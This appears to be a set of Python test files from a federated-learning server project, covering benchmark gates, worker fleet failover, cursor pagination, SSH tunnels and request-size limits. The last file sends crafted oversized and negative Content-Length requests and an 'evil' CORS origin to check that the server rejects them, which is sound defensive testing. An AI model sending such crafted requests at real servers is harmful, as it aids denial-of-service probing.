    """The crash-recovery scenario rides the same smoke run: the driver
    is killed mid-fold of round 1 and a fresh driver resumes from the
    durable journal. This PR's acceptance bound lives here, in tier-1:
    recovery must cost tail-sized time (≤ 1.5 × the round tail), not
    round-sized time, restart at the interrupted round, and land on
    bit-exact weights — the chaos seed rides the record so a failure
    is reproducible from the artifact alone."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="round_recovery")
    assert j["unit"] == "s" and j["smoke"] is True
    d = j["detail"]
    assert d["chaos_seed"]  # reproducibility handle on the record
    assert d["recovery_overhead_s"] <= 1.5 * d["tail_s"]
    assert d["bound_s"] == pytest.approx(1.5 * d["tail_s"])
    assert d["resumed_rounds"] == d["rounds"] - 1  # no round-0 restart
    assert d["recovery_actions"]["adopted"] >= 1
    assert d["recovery_actions"]["replayed"] >= 1
    assert d["bit_exact"] is True
    # resuming from the journal beats re-running the interrupted
    # rounds from scratch — the whole point of the write-ahead design
    assert d["resume_wall_s"] < d["twin_wall_s"]


def test_bench_smoke_publishes_core_packing():
    """The core-packing scenario rides the same smoke run: N single-core
    jobs plus one exclusive collective bin-packed by the CoreScheduler
    onto a simulated 8-core pool must finish in ≤ 0.6× the serialized
    co-hosting baseline with bit-exact per-job outputs. The scheduler
    PR's acceptance bound lives here, in tier-1, not just the perf
    lane (measure_core_packing also hard-asserts oversubscription and
    exclusive-window isolation internally)."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="core_packing")
    assert j["unit"] == "s" and j["smoke"] is True
    d = j["detail"]
    assert d["cores"] == 8 and d["jobs"] >= 8
    assert d["ratio"] <= 0.6
    assert d["sched_makespan_s"] <= 0.6 * d["makespan_serialized_s"]
    assert d["bit_exact_outputs"] is True
    assert d["wait_p95_s"] >= d["wait_p50_s"] >= 0.0
    # queueing is real: with 12 jobs on 8 cores the second wave waits
    assert d["wait_p95_s"] > 0.0


def test_bench_smoke_publishes_flight_recorder_overhead():
    """The always-on flight recorder must be invisible at fold density:
    bench measures the per-fold median with the ring on vs off and
    hard-asserts ≤1.05× internally — this pins the published record."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""},
                   metric="flight_recorder_overhead")
    assert j["unit"] == "x" and j["smoke"] is True
    d = j["detail"]
    assert 0.0 < d["ratio"] <= 1.05
    assert d["recorder_on_fold_s"] > 0 and d["recorder_off_fold_s"] > 0
    assert d["folds"] >= 100 and d["reps"] >= 2


def test_bench_smoke_headline_carries_kernel_seconds_and_mfu():
    """metrics_snapshot in the headline record must carry the federated
    kernel telemetry: per-kernel v6_kernel_seconds from the aggregation
    hot path (agg_* logical kernels run even on the CPU backend) and
    the ledger-derived MFU gauge refreshed right before capture."""
    j = _run_bench({"BENCH_FAULT_CALIBRATION": ""})
    snap = j["detail"]["metrics_snapshot"]
    assert "v6_kernel_mfu" in snap
    counts = {k: v for k, v in snap.items()
              if k.startswith("v6_kernel_seconds_count")}
    assert counts, "no v6_kernel_seconds samples in the bench snapshot"
    assert any('kernel="agg_' in k for k in counts)
    assert sum(counts.values()) > 0


# --- the --compare regression gate (in-process, against the cached
# smoke run's real records) ------------------------------------------------
def _compare_inputs():
    env = {"BENCH_FAULT_CALIBRATION": ""}
    return {
        "fedavg_round_wall_clock_s": _run_bench(env),
        "inference_serving_tokens_per_s": _run_bench(
            env, metric="inference_serving_tokens_per_s"),
    }


def _last_line(capsys):
    import json

    return json.loads(capsys.readouterr().out.strip().splitlines()[-1])


def test_bench_compare_self_is_clean(tmp_path, capsys):
    """A run compared against its own artifact (raw one-record-per-line
    form) gates clean: rc 0, ok verdict, no regressions."""
    import json

    cur = _compare_inputs()
    ref = tmp_path / "BENCH_ref.json"
    ref.write_text("\n".join(json.dumps(r) for r in cur.values()) + "\n")
    assert bench.run_compare(cur, str(ref)) == 0
    out = _last_line(capsys)
    assert out["metric"] == "bench_compare" and out["ok"] is True
    assert out["regressions"] == []
    assert len(out["notes"]) == 2  # both gated metrics reported ok


def test_bench_compare_reads_driver_wrapper_artifact(tmp_path):
    """BENCH_rXX.json wrapper form: ``parsed`` is the Python repr of
    the headline (ast fallback), ``tail`` carries the other lines."""
    import json

    cur = _compare_inputs()
    ref = tmp_path / "BENCH_r99.json"
    ref.write_text(json.dumps({
        "n": 99, "cmd": "python bench.py --smoke", "rc": 0,
        "parsed": repr(cur["fedavg_round_wall_clock_s"]),
        "tail": "noise\n"
                + json.dumps(cur["inference_serving_tokens_per_s"]),
    }))
    loaded = bench.load_bench_records(str(ref))
    assert set(loaded) == {"fedavg_round_wall_clock_s",
                           "inference_serving_tokens_per_s"}
    regressions, notes = bench.compare_records(cur, loaded)
    assert regressions == [] and len(notes) == 2


def test_bench_compare_flags_both_regressions_exit_3(tmp_path, capsys):
    """A doctored reference that was 2× faster on wall-clock and 3× on
    tokens/s trips both gates: rc 3 (CI distinguishes 'slower' from
    'broken'), one regression string per gated metric."""
    import copy
    import json

    cur = _compare_inputs()
    ref = copy.deepcopy(cur)
    head = ref["fedavg_round_wall_clock_s"]
    head["value"] = cur["fedavg_round_wall_clock_s"]["value"] / 2.0
    tok = ref["inference_serving_tokens_per_s"]["detail"]
    tok["tokens_per_s"] = tok["tokens_per_s"] * 3.0
    path = tmp_path / "BENCH_fast.json"
    path.write_text("\n".join(json.dumps(r) for r in ref.values()) + "\n")
    assert bench.run_compare(cur, str(path)) == 3
    out = _last_line(capsys)
    assert out["ok"] is False and len(out["regressions"]) == 2
    assert any("fedavg_round_wall_clock_s" in r
               for r in out["regressions"])
    assert any("tokens/s" in r for r in out["regressions"])


def test_bench_compare_skips_incomparable_host_profile(tmp_path, capsys):
    """A reference from a different host profile (degraded run, other
    backend, other scale knobs) must skip the gate with a note — an
    apples-to-oranges comparison is worse than none."""
    import copy
    import json

    cur = _compare_inputs()
    ref = copy.deepcopy(cur)
    ref["fedavg_round_wall_clock_s"]["degraded"] = True
    ref["fedavg_round_wall_clock_s"]["value"] = 1e-9  # would trip
    path = tmp_path / "BENCH_other_host.json"
    path.write_text("\n".join(json.dumps(r) for r in ref.values()) + "\n")
    assert bench.run_compare(cur, str(path)) == 0
    out = _last_line(capsys)
    assert out["ok"] is True and out["regressions"] == []
    assert any("host profile mismatch" in n for n in out["notes"])


def test_bench_compare_missing_reference_is_nonfatal(tmp_path, capsys):
    """--compare against a path that doesn't exist reports the error
    and gates nothing (first run of a new rig must not fail CI)."""
    cur = _compare_inputs()
    assert bench.run_compare(cur, str(tmp_path / "nope.json")) == 0
    out = _last_line(capsys)
    assert out["metric"] == "bench_compare" and "error" in out
