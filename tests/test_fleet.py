"""Fleet scale-out tests: N stateless workers over one shared store
behind the in-repo balancer (server/fleet.py), the cross-worker event
path, singleton-role election, and keyset cursor pagination (stability
under churn + O(page) reads asserted via storage stats)."""

import base64
import json
import threading
import time

import pytest
import requests

from vantage6_trn.server import ServerApp
from vantage6_trn.server.fleet import Fleet

ROOT_PW = "fleet-pw"


@pytest.fixture()
def fleet(tmp_path):
    f = Fleet(str(tmp_path / "fleet.db"), n_workers=3,
              root_password=ROOT_PW)
    port = f.start()
    yield f, f"http://127.0.0.1:{port}/api"
    f.stop()


def _login(base, username="root", password=ROOT_PW):
    r = requests.post(f"{base}/token/user",
                      json={"username": username, "password": password})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def _worker_base(fleet_obj, index):
    return f"http://127.0.0.1:{fleet_obj.worker_ports[index]}/api"


# --- cross-worker event delivery ----------------------------------------
def test_event_emitted_via_worker_a_wakes_poller_on_worker_b(fleet):
    """The acceptance path for the shared-bus broker: a node long-polls
    worker B; a task lands through worker A; B's poller wakes with the
    new_task event well inside the long-poll window (same-process
    workers share the wakeup condition; cross-process would ride the
    bounded re-check)."""
    f, base = fleet
    hdr = _login(base)
    for i in range(2):
        requests.post(f"{base}/organization", json={"name": f"o{i}"},
                      headers=hdr)
    requests.post(f"{base}/collaboration",
                  json={"name": "c", "organization_ids": [1, 2]},
                  headers=hdr)
    node = requests.post(
        f"{base}/node",
        json={"organization_id": 1, "collaboration_id": 1},
        headers=hdr,
    ).json()
    ntok = requests.post(f"{base}/token/node",
                         json={"api_key": node["api_key"]}).json()
    nhdr = {"Authorization": f"Bearer {ntok['access_token']}"}

    base_a, base_b = _worker_base(f, 0), _worker_base(f, 1)
    since = requests.get(f"{base_b}/event",
                         params={"since": 0, "timeout": 0},
                         headers=nhdr).json()["last_id"]

    got = {}

    def poll_b():
        t0 = time.monotonic()
        r = requests.get(f"{base_b}/event",
                         params={"since": since, "timeout": 20},
                         headers=nhdr)
        got["elapsed"] = time.monotonic() - t0
        got["events"] = [e["event"] for e in r.json()["data"]]

    t = threading.Thread(target=poll_b)
    t.start()
    time.sleep(0.4)  # let the poller park
    r = requests.post(
        f"{base_a}/task",
        json={"title": "wake", "image": "v6-trn://probe",
              "collaboration_id": 1, "organizations": [{"id": 1}],
              "databases": []},
        headers=hdr,
    )
    assert r.status_code == 201, r.text
    t.join(timeout=25)
    assert not t.is_alive(), "long-poll on worker B never woke"
    assert "new_task" in got["events"]
    # woke on the emit, not on the 20 s poll timeout
    assert got["elapsed"] < 5.0


# --- balancer: spread, failover, websocket refusal ----------------------
def test_balancer_spreads_load_and_fails_over_on_worker_kill(fleet):
    f, base = fleet
    hdr = _login(base)
    for i in range(30):
        r = requests.post(f"{base}/organization", json={"name": f"s{i}"},
                          headers=hdr)
        assert r.status_code == 201
    served = {b["addr"]: b["served"] for b in f.balancer.backends()}
    assert all(n > 0 for n in served.values()), \
        f"idle backend in rotation: {served}"

    # abrupt kill, no drain: the balancer must discover the corpse via
    # connect failure and fail the requests over to the survivors
    f.kill_worker(0)
    for _ in range(10):
        r = requests.get(f"{base}/organization", headers=hdr,
                         params={"page": 1, "per_page": 2})
        assert r.status_code == 200, r.text
    down = [b for b in f.balancer.backends() if not b["healthy"]]
    assert [b["addr"].rsplit(":", 1)[1] for b in down] \
        == [str(f.worker_ports[0])]


def test_balancer_refuses_websocket_upgrade(fleet):
    _, base = fleet
    r = requests.get(f"{base}/ws", headers={
        "Upgrade": "websocket", "Connection": "Upgrade",
        "Sec-WebSocket-Key": "x3JJHMbDL1EzLkh9GBhXDw==",
        "Sec-WebSocket-Version": "13",
    })
    assert r.status_code == 501
    assert "long-poll" in r.json()["msg"]


# --- singleton-role election --------------------------------------------
def test_sweeper_role_is_held_by_exactly_one_worker_and_fails_over(
        tmp_path):
    f = Fleet(str(tmp_path / "elect.db"), n_workers=3,
              root_password=ROOT_PW,
              node_offline_after=0.8, lease_ttl=0.8)
    f.start()
    try:
        def elected():
            return [i for i, w in enumerate(f.workers)
                    if w._sweeper_elected]

        deadline = time.time() + 10
        while time.time() < deadline and len(elected()) != 1:
            time.sleep(0.05)
        holders = elected()
        assert len(holders) == 1, \
            f"expected exactly one sweeper, got workers {holders}"
        victim = holders[0]

        f.kill_worker(victim, drain=True)
        survivors = [i for i in range(3) if i != victim]
        deadline = time.time() + 15
        while time.time() < deadline:
            now = [i for i in survivors if f.workers[i]._sweeper_elected]
            if len(now) == 1:
                break
            time.sleep(0.05)
        else:
            pytest.fail("sweeper role did not fail over after the "
                        "holder was killed")
    finally:
        f.stop()


# --- keyset cursor pagination -------------------------------------------
def _cursor_walk(base, hdr, per_page, on_page=None):
    seen, cursor, pages = [], "", 0
    while True:
        r = requests.get(f"{base}/organization", headers=hdr,
                         params={"cursor": cursor, "per_page": per_page})
        assert r.status_code == 200, r.text
        body = r.json()
        seen += [row["id"] for row in body["data"]]
        pages += 1
        if on_page:
            on_page(pages)
        cursor = body.get("links", {}).get("next_cursor")
        if not cursor:
            return seen, pages


def test_cursor_pagination_stable_under_churn():
    """Rows inserted and deleted *between* cursor pages must neither
    duplicate nor skip survivors — the LIMIT/OFFSET failure mode this
    replaces. Deletions ahead of the cursor simply don't appear;
    insertions land past the high-water mark and are picked up."""
    app = ServerApp(root_password=ROOT_PW)
    port = app.start()
    base = f"http://127.0.0.1:{port}/api"
    try:
        hdr = _login(base)
        for i in range(60):
            requests.post(f"{base}/organization", json={"name": f"c{i}"},
                          headers=hdr)
        start_ids = set(range(1, 61))
        deleted: set[int] = set()
        added: list[int] = []

        def churn(page_no):
            if page_no == 2:
                # one row already paged past, one still ahead
                for oid in (3, 44):
                    app.db.delete("organization", "id=?", (oid,))
                    deleted.add(oid)
            if page_no == 3:
                added.append(app.db.insert("organization", name="late"))

        seen, pages = _cursor_walk(base, hdr, per_page=10, on_page=churn)
        assert pages >= 6
        assert len(seen) == len(set(seen)), "cursor walk duplicated rows"
        # id 3 was already emitted before its deletion; id 44 must be
        # gone; every undeleted starting row and the late insert appear
        expected = (start_ids - {44}) | set(added)
        assert set(seen) == expected
        assert seen == sorted(seen)
    finally:
        app.stop()


def test_malformed_mismatched_and_expired_cursors_are_400():
    app = ServerApp(root_password=ROOT_PW)
    port = app.start()
    base = f"http://127.0.0.1:{port}/api"
    try:
        hdr = _login(base)
        for i in range(5):
            requests.post(f"{base}/organization", json={"name": f"x{i}"},
                          headers=hdr)

        r = requests.get(f"{base}/organization", headers=hdr,
                         params={"cursor": "@@not-base64@@"})
        assert r.status_code == 400, r.text
        r = requests.get(f"{base}/organization", headers=hdr,
                         params={"cursor": "aGVsbG8"})  # b64 of "hello"
        assert r.status_code == 400, r.text

        # minted against ?ids=..., replayed without the filter
        r = requests.get(f"{base}/organization", headers=hdr,
                         params={"cursor": "", "per_page": 2,
                                 "ids": "1,2,3,4"})
        good = r.json()["links"]["next_cursor"]
        r = requests.get(f"{base}/organization", headers=hdr,
                         params={"cursor": good, "per_page": 2})
        assert r.status_code == 400
        assert "filter" in r.json()["msg"]

        # same payload, minted 25 h ago
        obj = json.loads(base64.urlsafe_b64decode(
            good + "=" * (-len(good) % 4)))
        obj["t"] = time.time() - 25 * 3600
        stale = base64.urlsafe_b64encode(
            json.dumps(obj).encode()).decode().rstrip("=")
        r = requests.get(f"{base}/organization", headers=hdr,
                         params={"cursor": stale, "per_page": 2,
                                 "ids": "1,2,3,4"})
        assert r.status_code == 400
        assert "expired" in r.json()["msg"]
    finally:
        app.stop()


def test_cursor_pages_read_o_page_rows_not_o_table():
    """Storage-stats assertion behind the keyset claim: serving one
    cursor page reads rows proportional to the page size — flat at any
    depth — while the table holds hundreds of rows. Also: ``links=0``
    page mode must not run a COUNT(*) (same query budget as cursor
    mode)."""
    # huge housekeeping horizons so the sweeper never queries mid-test
    app = ServerApp(root_password=ROOT_PW,
                    node_offline_after=3600, lease_ttl=3600)
    port = app.start()
    base = f"http://127.0.0.1:{port}/api"
    try:
        hdr = _login(base)
        for i in range(300):
            app.db.insert("organization", name=f"bulk-{i}")

        def page_cost(params):
            before = app.db.stats.snapshot()
            r = requests.get(f"{base}/organization", headers=hdr,
                             params=params)
            assert r.status_code == 200, r.text
            return r.json(), app.db.stats.delta(before)

        body, first = page_cost({"cursor": "", "per_page": 10})
        deep_cursor = body["links"]["next_cursor"]
        for _ in range(5):  # walk a few pages in
            body, deep = page_cost({"cursor": deep_cursor,
                                    "per_page": 10})
            deep_cursor = body["links"]["next_cursor"]

        # per-request overhead (auth reads the caller's rule set) is
        # constant; the page itself is the 10+1 probe. Two invariants:
        # cursor depth does not change the cost...
        assert abs(deep["rows_read"] - first["rows_read"]) <= 2, \
            (first, deep)
        assert deep["queries"] == first["queries"]

        # ...and neither does the table size: double the table, same
        # page cost (the O(table) failure mode would scale with it)
        for i in range(300):
            app.db.insert("organization", name=f"bulk2-{i}")
        _, big = page_cost({"cursor": "", "per_page": 10})
        assert abs(big["rows_read"] - first["rows_read"]) <= 2, \
            (first, big)
        assert big["queries"] == first["queries"]

        # links=0 page mode matches the cursor-mode query budget —
        # no COUNT(*) over the table; default page mode pays exactly
        # one extra query for the total (COUNT scans don't surface in
        # rows_read, so assert on the statement count)
        _, nolinks = page_cost({"page": 5, "per_page": 10, "links": 0})
        _, withcount = page_cost({"page": 5, "per_page": 10})
        assert nolinks["queries"] == first["queries"]
        assert withcount["queries"] == nolinks["queries"] + 1
    finally:
        app.stop()


def test_limit_offset_pagination_still_served(fleet):
    """Compat: pre-cursor clients keep working against a fleet."""
    _, base = fleet
    hdr = _login(base)
    for i in range(25):
        requests.post(f"{base}/organization", json={"name": f"lo{i}"},
                      headers=hdr)
    r = requests.get(f"{base}/organization", headers=hdr,
                     params={"page": 2, "per_page": 10})
    body = r.json()
    assert len(body["data"]) == 10
    assert body["links"]["total"] == 25
    assert body["links"]["pages"] == 3


# --- fleet-scope observability (docs/OBSERVABILITY.md §7) ----------------
def _parse_prom(text):
    """Prometheus text → {(name, frozenset(label items)): value}."""
    out = {}
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        head, _, val = line.rpartition(" ")
        if "{" in head:
            name, _, rest = head.partition("{")
            body = rest.rsplit("}", 1)[0]
            labels = dict(
                p.split("=", 1) for p in body.split('",') if "=" in p
            )
            labels = {k: v.strip('"') for k, v in labels.items()}
        else:
            name, labels = head, {}
        out[(name, frozenset(labels.items()))] = float(val)
    return out


def _fleet_sample_key(samples, name, **labels):
    """Find the snapshot key for ``name`` carrying every given label."""
    want = [f'{k}="{v}"' for k, v in labels.items()]
    return [
        k for k in samples
        if k.split("{")[0] == name and all(w in k for w in want)
    ]


def test_fleet_scope_merges_workers_nodes_and_survives_kill(tmp_path):
    """The §7 acceptance path: 3 worker processes + 1 live node, every
    source visible in one ``scope=fleet`` pane; after a worker is
    SIGKILLed mid-fleet its ``worker=…`` series keep being served
    bit-for-bit from its last persisted snapshot — a fleet scrape
    degrades, it never 5xxes."""
    import numpy as np

    from vantage6_trn.algorithm.table import Table
    from vantage6_trn.node.daemon import Node
    from vantage6_trn.server.fleet import ProcessFleet

    # long housekeeping interval: the workers' stored exports change
    # only when a scrape persists them, so the bit-match window below
    # cannot race a background re-persist
    f = ProcessFleet(str(tmp_path / "pfleet.db"), n_workers=3,
                     root_password=ROOT_PW,
                     node_offline_after=300.0, lease_ttl=300.0)
    node = None
    try:
        port = f.start()
        base = f"http://127.0.0.1:{port}/api"
        hdr = _login(base)
        requests.post(f"{base}/organization", json={"name": "o0"},
                      headers=hdr)
        requests.post(f"{base}/collaboration",
                      json={"name": "c", "organization_ids": [1]},
                      headers=hdr)
        reg = requests.post(
            f"{base}/node",
            json={"organization_id": 1, "collaboration_id": 1,
                  "name": "node-0"},
            headers=hdr,
        ).json()
        node = Node(server_url=base, api_key=reg["api_key"],
                    databases=[Table({"x": np.arange(4.0)})],
                    name="node-0", heartbeat_s=0.2)
        node.start()

        # a fixed amount of countable traffic, spread by the balancer
        n_tasks = 4
        for i in range(n_tasks):
            r = requests.post(
                f"{base}/task",
                json={"title": f"t{i}", "image": "v6-trn://stats",
                      "collaboration_id": 1, "organizations": [{"id": 1}],
                      "databases": []},
                headers=hdr,
            )
            assert r.status_code == 201, r.text

        worker_ids = [
            requests.get(f"{_worker_base(f, i)}/health").json()["worker"]
            for i in range(3)
        ]
        assert len(set(worker_ids)) == 3

        # wait until the node's piggybacked export reaches fleet scope
        deadline = time.monotonic() + 20
        while True:
            r = requests.get(f"{base}/metrics",
                             params={"scope": "fleet"},
                             headers={**hdr, "Accept": "application/json"})
            assert r.status_code == 200, r.text
            samples = r.json()["samples"]
            # the heartbeat counter increments after the export is
            # captured, so it lands from the second beat on — waiting
            # for it proves at least one full delta round-trip
            if _fleet_sample_key(samples, "v6_node_heartbeats_total",
                                 node="node-0"):
                break
            assert time.monotonic() < deadline, \
                "node export never reached fleet scope"
            time.sleep(0.2)

        # node-labeled scheduler series made it across the heartbeat
        assert _fleet_sample_key(samples, "v6_sched_core_busy_ratio",
                                 node="node-0")

        # every worker persists at its own scrape — the fleet view must
        # list all three sources afterwards
        for i in (1, 2):
            assert requests.get(f"{_worker_base(f, i)}/metrics",
                                headers=hdr).status_code == 200
        # freeze worker 0: its own scrape persists the export AND
        # renders the response from that same export (the bit-match
        # contract), so what we read here is exactly what the store
        # holds for it
        w0 = requests.get(f"{_worker_base(f, 0)}/metrics", headers=hdr)
        assert w0.status_code == 200
        w0_samples = _parse_prom(w0.text)

        f.kill_worker(0)
        f.processes[0].join(timeout=10)
        assert not f.processes[0].is_alive()

        r = requests.get(f"{base}/metrics", params={"scope": "fleet"},
                         headers={**hdr, "Accept": "application/json"})
        assert r.status_code == 200, r.text  # degrade, never 5xx
        out = r.json()
        samples = out["samples"]
        assert {w["id"] for w in out["workers"]} == set(worker_ids)

        # dead worker's series == its last persisted snapshot, bitwise
        own_families = ("v6_http_requests_total", "v6_tasks_created_total",
                        "v6_tasks", "v6_nodes", "v6_runs")
        for (name, labels), val in w0_samples.items():
            if name not in own_families:
                continue
            keys = _fleet_sample_key(
                samples, name, worker=worker_ids[0],
                **dict(labels))
            assert len(keys) == 1, (name, labels, keys)
            assert samples[keys[0]] == val, (keys[0], samples[keys[0]], val)

        # counter totals: the task counter is quiescent after creation,
        # so the fleet-wide sum bit-matches the number created whatever
        # worker handled each POST
        created = sum(
            samples[k] for k in _fleet_sample_key(
                samples, "v6_tasks_created_total")
        )
        assert created == float(n_tasks)
    finally:
        if node is not None:
            node.stop()
        f.stop()
