"""SSH tunnel support (SURVEY.md §2.1 squid/SSH-tunnel row): node
reaches the server through an ``ssh -N -L`` local forward. The stub ssh
binary implements the forward so the full node-through-tunnel path runs
without an sshd; the real OpenSSH binary is exercised on the failure
path (it exits, and its stderr must surface in the error)."""

import os
import stat
import sys
import textwrap

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.client import UserClient
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.node.daemon import Node
from vantage6_trn.node.tunnel import (
    SSHTunnel, TunnelError, tunnels_from_config,
)
from vantage6_trn.server import ServerApp

STUB = textwrap.dedent(
    """\
    #!%s
    # stand-in for `ssh -N -L bind:lp:rh:rp user@host`: serves the local
    # forward itself so tunnel lifecycle tests need no sshd
    import socket, sys, threading

    spec = sys.argv[sys.argv.index("-L") + 1]
    bind, lp, rh, rp = spec.rsplit(":", 3)
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((bind, int(lp)))
    srv.listen(16)

    def pump(a, b):
        try:
            while True:
                d = a.recv(65536)
                if not d:
                    break
                b.sendall(d)
        except OSError:
            pass
        finally:
            for s in (a, b):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    while True:
        c, _ = srv.accept()
        r = socket.create_connection((rh, int(rp)))
        threading.Thread(target=pump, args=(c, r), daemon=True).start()
        threading.Thread(target=pump, args=(r, c), daemon=True).start()
    """ % sys.executable
)


@pytest.fixture()
def stub_ssh(tmp_path):
    path = tmp_path / "stub-ssh"
    path.write_text(STUB)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


def test_node_reaches_server_only_through_tunnel(tmp_path, stub_ssh):
    app = ServerApp(root_password="pw")
    port = app.start()
    node = None
    try:
        root = UserClient(f"http://127.0.0.1:{port}")
        root.authenticate("root", "pw")
        oid = root.organization.create(name="o")["id"]
        collab = root.collaboration.create("c", [oid])["id"]
        reg = root.node.create(collab, organization_id=oid)

        tunnels = tunnels_from_config([{
            "host": "bastion.example", "user": "tunnel",
            "remote_host": "127.0.0.1", "remote_port": port,
            "ssh_binary": stub_ssh, "for": "server",
        }])
        # deliberately unreachable server_url: only the tunnel rewrite
        # can make this node work
        node = Node(
            server_url="http://tunnel-required.invalid:9/api",
            api_key=reg["api_key"],
            databases=[Table({"a": np.arange(7.0)})],
            name="tunneled", tunnels=tunnels,
        )
        node.start()
        assert node.server_url.startswith("http://127.0.0.1:")
        assert node.server_url.endswith("/api")

        task = root.task.create(
            collaboration=collab, organizations=[oid], name="t",
            image="v6-trn://stats", input_=make_task_input("partial_stats"),
        )
        (res,) = root.wait_for_results(task["id"], timeout=30)
        assert res["count"][0] == 7.0
        assert tunnels[0].alive
    finally:
        if node is not None:
            node.stop()
        app.stop()
    assert not tunnels[0].alive  # stopped with the node


def test_https_server_url_with_tunnel_rejected(stub_ssh):
    """for=server rewrite must refuse an https server_url instead of
    silently downgrading to plaintext through the forward."""
    tunnels = tunnels_from_config([{
        "host": "b", "remote_host": "127.0.0.1", "remote_port": 1,
        "ssh_binary": stub_ssh, "for": "server",
    }])
    node = Node(server_url="https://secure.example/api", api_key="x",
                tunnels=tunnels)
    with pytest.raises(RuntimeError, match="https"):
        node.start()
    assert not tunnels[0].alive  # cleaned up on the failure path


def test_failed_startup_stops_already_started_tunnels(stub_ssh):
    """Tunnel children are detached (own session); a node that fails
    after the tunnel came up must stop them, not leak them."""
    app = ServerApp(root_password="pw")
    port = app.start()
    try:
        tunnels = tunnels_from_config([{
            "host": "b", "remote_host": "127.0.0.1", "remote_port": port,
            "ssh_binary": stub_ssh, "for": "server",
        }])
        node = Node(server_url="http://x.invalid:9/api",
                    api_key="wrong-key", tunnels=tunnels)
        with pytest.raises(RuntimeError, match="authentication failed"):
            node.start()
        assert not tunnels[0].alive
    finally:
        app.stop()


def test_tunnel_child_death_surfaces_stderr(tmp_path):
    fail = tmp_path / "fail-ssh"
    fail.write_text(
        f"#!{sys.executable}\nimport sys\n"
        "sys.stderr.write('Permission denied (publickey).\\n')\n"
        "sys.exit(255)\n"
    )
    fail.chmod(fail.stat().st_mode | stat.S_IXUSR)
    t = SSHTunnel(host="h", remote_host="127.0.0.1", remote_port=1,
                  ssh_binary=str(fail))
    with pytest.raises(TunnelError, match="Permission denied"):
        t.start()


def test_missing_ssh_binary_fails_clearly():
    t = SSHTunnel(host="h", remote_host="127.0.0.1", remote_port=1,
                  ssh_binary="definitely-not-a-real-ssh")
    with pytest.raises(TunnelError, match="not found"):
        t.start()


def test_real_openssh_failure_path():
    """Drive the actual OpenSSH binary against a closed port: it must
    exit and the TunnelError must carry its complaint (BatchMode keeps
    it non-interactive)."""
    import shutil
    import socket

    if shutil.which("ssh") is None:
        pytest.skip("no ssh binary in image")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed_port = s.getsockname()[1]
    t = SSHTunnel(host="127.0.0.1", ssh_port=closed_port,
                  remote_host="127.0.0.1", remote_port=1,
                  connect_timeout=20, strict_host_key=False)
    with pytest.raises(TunnelError, match="exited"):
        t.start()
