"""Ingress size limits (round-2 advisor + verdict finding): every
listener built on the shared HTTP framework caps request bodies, and
the WebSocket codec caps declared frame lengths — both fields are
attacker-controlled 64-bit numbers that previously could grow receive
buffers without bound (reference delegates this to its WSGI front /
eventlet — SURVEY.md §2.1 app-factory row)."""

import http.client
import socket
import struct
import threading

import pytest

from vantage6_trn.common import ws as v6ws
from vantage6_trn.server import ServerApp


@pytest.fixture()
def small_server():
    app = ServerApp(root_password="pw", max_body=4096)
    port = app.start()
    yield port
    app.stop()


def _post(port, path, body: bytes, extra_headers=None):
    con = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    headers = {"Content-Type": "application/json",
               **(extra_headers or {})}
    con.request("POST", path, body=body, headers=headers)
    resp = con.getresponse()
    data = resp.read()
    con.close()
    return resp, data


def test_oversized_body_rejected_413_pre_auth(small_server):
    # /token/user is pre-auth: the cap must hold with no credentials
    big = b'{"username": "' + b"a" * 8192 + b'", "password": "x"}'
    resp, data = _post(small_server, "/api/token/user", big)
    assert resp.status == 413
    assert b"limit" in data


def test_oversized_body_never_read(small_server):
    """The server must refuse on the Content-Length *header* without
    draining the body — send the header but only a sliver of payload
    and expect the 413 immediately."""
    con = socket.create_connection(("127.0.0.1", small_server), timeout=10)
    try:
        con.sendall(
            b"POST /api/token/user HTTP/1.1\r\n"
            b"Host: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 99999999999\r\n\r\n" + b"{"
        )
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = con.recv(4096)
            if not chunk:
                break
            head += chunk
        assert b"413" in head.split(b"\r\n", 1)[0]
    finally:
        con.close()


def test_oversized_options_preflight_rejected(small_server):
    """The preflight branch drains bodies to keep keep-alive connections
    in sync — the cap must apply there too, not just to real methods."""
    con = socket.create_connection(("127.0.0.1", small_server), timeout=10)
    try:
        con.sendall(
            b"OPTIONS /api/task HTTP/1.1\r\n"
            b"Host: x\r\nOrigin: http://elsewhere\r\n"
            b"Content-Length: 99999999999\r\n\r\n"
        )
        head = con.recv(4096)
        assert b"413" in head.split(b"\r\n", 1)[0]
    finally:
        con.close()


def test_negative_content_length_rejected(small_server):
    """Content-Length: -1 must not reach rfile.read(-1) (read-to-EOF —
    unbounded buffering and a pinned handler thread)."""
    con = socket.create_connection(("127.0.0.1", small_server), timeout=10)
    try:
        con.sendall(
            b"POST /api/token/user HTTP/1.1\r\n"
            b"Host: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: -1\r\n\r\n"
        )
        head = con.recv(4096)
        assert head.split(b"\r\n", 1)[0].split(b" ")[1] in (b"413", b"400")
    finally:
        con.close()


def test_cors_wildcard_in_list_and_vary_on_deny():
    from vantage6_trn.server.http import cors_headers

    # ["*"] must behave like "*" (the YAML-friendly spelling)
    assert cors_headers(["*"], "http://any")[
        "Access-Control-Allow-Origin"] == "*"
    # with an allowlist configured, even deny responses vary on Origin
    # (shared caches must not serve a grant-less response to a listed
    # origin)
    assert cors_headers(["http://ui.example"], "http://evil") == \
        {"Vary": "Origin"}
    assert cors_headers(["http://ui.example"], None) == {"Vary": "Origin"}
    # no-CORS config stays header-free (origin-independent)
    assert cors_headers((), "http://any") == {}


def test_store_admin_token_non_ascii_is_401_not_500():
    """hmac.compare_digest on str raises TypeError for non-ASCII — the
    store must answer 401, not crash to a 500."""
    import requests

    from vantage6_trn.store import StoreApp

    store = StoreApp(admin_token="adm")
    port = store.start()
    try:
